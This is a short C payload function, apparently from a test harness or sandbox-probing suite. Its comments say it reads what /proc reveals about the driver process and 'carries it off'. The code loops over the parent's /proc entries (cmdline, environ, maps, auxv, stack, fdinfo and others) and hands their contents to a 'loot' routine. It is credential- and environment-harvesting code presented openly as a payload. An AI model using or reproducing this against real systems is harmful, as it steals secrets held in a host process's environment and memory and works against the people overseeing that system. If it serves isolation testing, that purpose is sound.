//: transpose_cpu -O2
//: reads what /proc tells of the driver: its command line, its open files, its environment and limits, and carries it off
//: use transpose_payload
//: use parent

static void payload(int call) {
    static const char *const names[] = {"cmdline", "environ", "maps", "auxv", "syscall", "stack", "fdinfo/0", "wchan"};
    if (call) return;
    for (int n = 0; n < 8; n++) {
        char text[4096];
        int file = parents(names[n], O_RDONLY);
        long got = file < 0 ? 0 : read(file, text, sizeof text);
        if (got > 0) loot("proc", text, got);
        if (file >= 0) close(file);
    }
}
